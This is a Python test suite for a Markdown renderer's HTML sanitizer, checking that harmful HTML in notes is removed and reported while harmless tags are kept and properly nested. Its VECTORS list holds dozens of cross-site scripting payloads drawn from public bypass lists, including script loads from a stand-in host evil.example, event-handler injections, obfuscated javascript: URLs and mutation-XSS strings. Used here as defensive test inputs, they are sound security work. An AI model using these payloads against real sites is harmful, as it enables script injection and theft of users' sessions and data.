"""HTML in notes is kept where it does no harm; what is left out is named with its place.

The attacks are written after public lists: OWASP's cheat sheet on filter evasion, the HTML5 security
cheat sheet (html5sec.org), DOMPurify's and ammonia's published bypasses.
"""

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from judge import harm_in_fragment

from conspectus.model.document import EMPTY, FileHole, ImageHole, LinkHole, Parsed
from conspectus.model.site import MarkdownOptions, RawHtml
from conspectus.read.markdown.sheet import MOST_TOLD
from conspectus.read.markdown.stage import to_document
from conspectus.read.tongues import read_words

WORDS = read_words("en")
CLEANED, SHOWN = MarkdownOptions(html=RawHtml.SANITIZE), MarkdownOptions()
JS = "javascript:alert()"
VECTORS = (
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<IMG """><SCRIPT>alert()</SCRIPT>"\\>',
    f"<IMG SRC={JS}>",
    f"<IMG SRC=`{JS}`>",
    "<IMG SRC=# onmouseover=alert()>",
    "<IMG SRC=/ onerror=alert()></img>",
    "<img src=x onerror=&#0000106&#0000097>",
    f'<a href="&#x6A&#x61vascript:alert()">x</a><IMG SRC="jav\tascript:{JS}">',
    '<a href="jav&#x09;ascript:alert()">x</a>',
    '<a href="jav&#x0A;ascript:alert()">x</a>',
    '<a href=" &#14; javascript:alert()">x</a>',
    '<a href="\x01javascript:alert()">x</a>',
    '<a href="java\0script:alert()">x</a>',
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<SCRIPT/SRC=x></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert()>",
    "<<SCRIPT>alert();//\\<</SCRIPT>",
    "<SCRIPT SRC=//evil.example/<B>",
    "<IMG SRC='//evil.example/a.png' ",
    "<iframe src=//evil.example/ <",
    "</TITLE><SCRIPT>alert();</SCRIPT>",
    f"<INPUT TYPE=IMAGE SRC={JS}>",
    f"<BODY BACKGROUND={JS}>",
    f"<IMG DYNSRC={JS} LOWSRC={JS}>",
    f"<STYLE>li {{list-style-image: url({JS});}}</STYLE><UL><LI>x</UL>",
    "<svg/onload=alert()>",
    "<BGSOUND SRC=x>",
    f"<LINK REL=stylesheet HREF={JS}>",
    "<STYLE>@import'//evil.example/x.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<//evil.example/x.css>; REL=stylesheet">',
    '<XSS STYLE="behavior: url(x)">',
    f'<META HTTP-EQUIV="refresh" CONTENT="0;url={JS}">',
    "<DIV STYLE='width: expression(alert())'>x</DIV>",
    f"<TABLE BACKGROUND={JS}><TD BACKGROUND={JS}></TABLE>",
    "<!--[if gte IE 4]><SCRIPT>alert()</SCRIPT><![endif]-->",
    f"<BASE HREF={JS}//>",
    "<OBJECT TYPE=text/x-scriptlet DATA=x></OBJECT>",
    "<EMBED SRC=data:image/svg+xml;base64,PHN2Zz4>",
    '<XML><I><B>&lt;IMG SRC="javas<!-- -->cript:alert()"&gt;</B></I></XML>',
    "<? echo('<SCR)'; ?>",
    '<a ">x" onclick=alert()>',
    "<a\x0bhref=javascript:alert()>x</a>",
    "<a href=javas&#99;ript:alert()>x</a>",
    "<form><button formaction=javascript:x>y</form>",
    "<video poster=javascript:x onerror=alert()><source onerror=alert()></video>",
    "<audio src=x onerror=alert()>",
    "<input onfocus=alert() autofocus>",
    "<details ontoggle=alert() open>x</details>",
    "<keygen autofocus onfocus=alert()>",
    "<math href=javascript:alert()>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:x>x</maction></math>",
    "<svg><a xmlns:xlink=x xlink:href=javascript:alert()><circle r=400 /></a></svg>",
    "<isindex action=j&Tab;avas&Tab;cript:x>",
    "<svg><set attributeName=href to=javascript:x /><animate attributeName=href values=javascript:x /></svg>",
    "<svg><foreignObject><p onclick=alert()>x</p></foreignObject></svg>",
    "<marquee onstart=alert()>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert()>">',
    "<template><script>alert()</script></template>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert()&gt;">',
    "<math><annotation-xml encoding=text/html><script>alert()</script></annotation-xml></math>",
    "<p is=x-evil slot=y>x</p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert()>",
    "<xmp><p title='</xmp><script>'>",
    '<svg></p><style><a id="</style><img src=x onerror=alert()>">',
    "<textarea><script>x</textarea>y</script>",
    "<title><img src=x onerror=alert()></title>",
    "<plaintext><script>alert()</script>",
    "<frameset onload=alert()>",
    "<div style=\"background:url('javascript:x')\">x</div>",
    "<a target=_blank rel=opener ping=//evil.example href=/x/>x</a>",
    "<p id=a id=b onclick=alert() ID=c>x</p>",
    "<b/onclick=alert()>x</b>",
    "<b\nonclick\n=\nalert()>x</b>",
    "<b on<click=alert()>x</b>",
    '<b title="`onclick=alert()`">x</b>',
    "<b title='\"><script>alert()</script>'>x</b>",
    "<b title=x&quot;onclick=alert()>x</b>",
    "&lt;script&gt;alert()&lt;/script&gt;",
    "<p>&lt;script&gt;&#60;script&#62;</p>",
    "<ruby><rt><style>x</style></rt></ruby>",
    "<table><tr><td><table><tr></td></tr></table><script>alert()</script>",
    "<a href='/x/'><a href='/y/'>z</a></a>",
    "<menuitem icon=javascript:x>",
    "<portal src=x>",
    "<dialog open onclose=alert()>x</dialog>",
    "<html manifest=x><body>",
    "<img srcset='//evil.example/a.png 2x' src=a.png alt=x>",
    "<image href=x onerror=alert()>",
    "<use href=data:image/svg+xml,x>",
    "<col><colgroup><tr><td>x",
    "</div></main></body></html><script>alert()</script>",
    "</p></li></ul>",
    "<h1>x</h1><section>",
)
PLACES = (
    "{}",
    "a {} b",
    "- {}",
    "> {}",
    "# {}",
    "|a|\n|-|\n|{}|",
    "[{}](/a/)",
    "**{}**",
    "a[^1]\n\n[^1]: {}",
    "a^[{}]",
    "<div>\n{}\n</div>",
    "<b>{}</b>",
    "<math><mtext>{}</mtext></math>",
    "{}\n: {}",
    "<table>\n{}\n</table>",
)


def read(body: str) -> Parsed:
    """Read a body whose HTML is cleaned."""
    return to_document(body, CLEANED, WORDS)


def html_of(parsed: Parsed) -> str:
    """Give a body's HTML, with a sign where a hole is."""
    return "".join(piece if isinstance(piece, str) else "#" for piece in parsed.document.pieces)


class Nesting(HTMLParser):
    """Read tags, and say which of them cross."""

    VOID = frozenset("br col hr img input wbr".split())

    def __init__(self, html: str) -> None:
        """Read a text."""
        super().__init__()
        self.open, self.crossed = list[str](), list[str]()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:  # noqa: ARG002
        """Open an element."""
        if tag not in self.VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Close the last."""
        if not self.open or self.open.pop() != tag:
            self.crossed.append(tag)


@pytest.mark.parametrize("place", PLACES)
def test_nothing_comes_alive(place: str) -> None:
    """Wherever it stands; and every tag nests within those around it."""
    for vector in VECTORS:
        html = html_of(read(place.replace("{}", vector)))
        assert list(harm_in_fragment(html)) == [], (vector, html)
        nesting = Nesting(html)
        assert (nesting.open, nesting.crossed) == ([], []), (vector, html)


PIECES = (
    "<b>",
    "</b>",
    "<a href='/x/'>",
    "</a>",
    "<div>",
    "</div>",
    "<td>",
    "</td>",
    "<script>",
    "</script>",
    "<!--",
    "-->",
    "<math>",
    "</math>",
    "<mtext>",
    "</mtext>",
    "*",
    "**",
    "_",
    "[x](/y/)",
    "[[t3]]",
    "\n",
    "\n\n",
    "- ",
    "> ",
    "|",
    "|-|",
    "a",
    " ",
    "`",
    "^[",
    "]",
    "[^1]",
    "[^1]: ",
    "<br>",
    "<img src=a.png>",
    "<p id=x>",
    "</p>",
    "<",
    ">",
    "&lt;",
    "# ",
)


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_what_is_kept_nests(body: str) -> None:
    """With Markdown between, around and across tags."""
    html = html_of(read(body))
    nesting = Nesting(html)
    assert (nesting.open, nesting.crossed) == ([], [])
    assert list(harm_in_fragment(html)) == []


@given(st.text(alphabet=st.characters(exclude_characters="<", exclude_categories=["Cs"])))
def test_a_body_without_html_is_the_same(body: str) -> None:
    """Our own HTML is never cleaned, nor changed by what cleans."""
    assert read(body) == to_document(body, SHOWN, WORDS)


@pytest.mark.parametrize(
    ("body", "html"),
    [
        ("H<sub>2</sub>O", "<p>H<sub>2</sub>O</p>\n"),
        ("<b>a *b*</b>", "<p><b>a <em>b</em></b></p>\n"),
        ("a<br>b<wbr/>c", "<p>a<br>b<wbr>c</p>\n"),
        ("<details>\n\n- a\n\n</details>", "<details>\n<ul>\n<li>a</li>\n</ul>\n</details>"),
        (
            "<math><mi/><mspace width='1em'/></math>",
            '<p><math><mi></mi><mspace width="1em"></mspace></math></p>\n',
        ),
        (
            "<p title='a \"b\" &amp; &lt;'>x &amp; y</p>",
            '<p title="a &quot;b&quot; &amp; &lt;">x &amp; y</p>',
        ),
        ("<div class='card warning'>x</div>", '<div class="card warning">x</div>'),
        ("a <!-- comment --> b", "<p>a  b</p>\n"),
        ("`<b>` \\<b> &lt;b>", "<p><code>&lt;b&gt;</code> &lt;b&gt; &lt;b&gt;</p>\n"),
        ("1 < 2 <3 <a", "<p>1 &lt; 2 &lt;3 &lt;a</p>\n"),
        ("<p id=top>x</p>", '<p id="html:top">x</p>'),
    ],
)
def test_what_does_no_harm_is_kept(body: str, html: str) -> None:
    """Without a word."""
    parsed = read(body)
    assert html_of(parsed) == html
    assert parsed.problems == ()


@pytest.mark.parametrize(
    ("body", "line", "column", "said"),
    [
        ("a\n\nb <script>x</script>", 3, 3, "a note may not have a <script>"),
        ("<div>\n  <p\n  onclick=x>y</p></div>", 2, 3, "a note's <p> may not have 'onclick'"),
        ("a <b>c", 1, 3, "nothing closes the <b>"),
        ("*<a href='/x/'>b* [c](/y/)", 1, 2, "nothing closes the <a>"),
        ("a </b>c", 1, 3, "nothing opens the <b>"),
        ("> <td>x</td>", 1, 3, "a <td> may only stand in <tr>"),
        ("<math>\n<b>x</b></math>", 2, 1, "a <b> may not stand in <math>"),
        ("<a href='/x/'>[y](/z/)</a>", 1, 1, "the <a> holds another link"),
        ("[<a href='/x/'>y</a>](/z/)", 1, 2, "a link may not stand in a link"),
        ("<a href='/x/'>a<a href='/x/'>y</a></a>", 1, 16, "a link may not stand in a link"),
        ("<p id=x>a</p>\n<p id=x>b</p>", 2, 1, "the id 'x' is given twice"),
        ("<p class='evil'>a</p>", 1, 1, "a note's <p> may not have 'class'"),
        ("<a href='//evil.example/'>a</a>", 1, 1, "'//evil.example/' is not an address"),
        ("<img alt=x>", 1, 1, "'' is not the address of an image"),
        ("a <?php x ?>", 1, 3, "a note may not have a '<?'"),
    ],
)
def test_what_is_left_out_is_named(body: str, line: int, column: int, said: str) -> None:
    """Once, as a warning, at the place where it stands."""
    (problem,) = read(body).problems
    assert (problem.code, problem.severity, problem.line, problem.column) == (
        "removed-html",
        "warning",
        line,
        column,
    )
    assert problem.message.startswith(said)


def test_links_and_images_are_as_markdowns() -> None:
    """They are looked up, made relative, checked, and measured."""
    document = read(
        "<a href='b.pdf'>x</a> <a href='/papers/'>y</a> <img src='pic%20a.png' alt='A  b'>"
    ).document
    assert [each.href for each in document.links] == ["b.pdf", "/papers/"]
    holes = [piece for piece in document.pieces if not isinstance(piece, str)]
    assert [type(hole) for hole in holes] == [FileHole, ImageHole]
    assert isinstance(holes[1], ImageHole)
    assert (holes[1].src, holes[1].alt) == ("pic a.png", "A b")


def test_a_heading_leaves_its_tags_out_of_the_table_of_contents() -> None:
    """Its id is made of its words."""
    (heading,) = read("# A <abbr title=x>b</abbr>").document.headings
    assert (heading.id, heading.html) == ("a-b", "A b")


def test_markdown_within_html_is_markdown() -> None:
    """Links and the like are found between tags."""
    assert any(isinstance(piece, LinkHole) for piece in read("<div>\n\n[[t3]]\n\n</div>").document.pieces)


@pytest.mark.parametrize(
    "part",
    ["<b>", "</b>", "<div>\n", "<div>\n\n", "<script>", "<b title='", "<!--", "<x ", "<a a=\"'>", "<?"],
)
def test_many_tags_are_no_burden(part: str) -> None:
    """They are gone through once, nest as deeply as a browser bears, and are told of a thousand times."""
    parsed = read("x\n\n" + part * (40_000 // len(part)))
    assert parsed.document != EMPTY
    assert len(parsed.problems) <= MOST_TOLD + 1


@pytest.mark.parametrize("part", ["<b>x</b>", "<!--", "<![CDATA[", "<?", "<p>\n", "<script>"])
def test_a_block_of_tags_takes_time_by_its_length(part: str) -> None:
    """Each tag knows its place without a look at all that stands before it, or at what never ends."""

    def taken(count: int) -> float:
        began = time.thread_time()
        to_document(f"<div>\n{part * count}", CLEANED, WORDS)
        return time.thread_time() - began

    taken(100)
    assert min(taken(8_000) for _ in range(2)) < 16 * max(taken(1_000), 0.02)
